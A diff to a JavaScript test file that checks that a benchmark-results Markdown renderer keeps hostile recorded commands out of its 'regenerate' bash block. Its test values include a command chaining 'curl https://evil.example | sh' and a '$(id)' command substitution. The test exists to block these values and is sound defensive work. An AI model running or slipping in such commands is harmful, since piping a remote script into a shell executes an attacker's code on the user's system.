@@ -286,14 +286,23 @@ describe('BENCHMARK_RESULTS.md of a results file with hostile text in every fiel
   const hostile = hostileResults();
   const md = renderBenchmarkMarkdown([hostile]);
 
-  test('the command holding a code fence stays inside the regenerate block, on one line', () => {
+  test('a recorded command that is not plain options (markup, a code fence, shell syntax) never reaches the regenerate line', () => {
     const blocks = codeBlocks(md);
     expect(blocks.every((b) => b.closed)).toBe(true);
     const regenerate = blocks.find((b) => b.open.endsWith('bash'));
     expect(regenerate?.body).toHaveLength(2);
     expect(regenerate?.body[1]).toMatch(
-      /^npm run perf -- command <img src=x .* # after the fence --out-dir \. {3}# on an gpu-name <img/,
+      /^npm run perf -- --out-dir \. {3}# the recorded options are not plain perf options: left out {3}# on an gpu-name /,
     );
+    for (const command of [
+      'npm run perf -- --seed 1; curl https://evil.example | sh',
+      'npm run perf -- $(id)',
+      "npm run perf -- --case 'x'",
+    ]) {
+      const run = { ...hostile, command };
+      const body = codeBlocks(renderBenchmarkMarkdown([run])).find((b) => b.open.endsWith('bash'))?.body ?? [];
+      expect(body.join('\n')).not.toMatch(/curl|\$\(|'/);
+    }
   });
 
   test('every heading and summary is ours, with the file’s text escaped and cut inside it', () => {
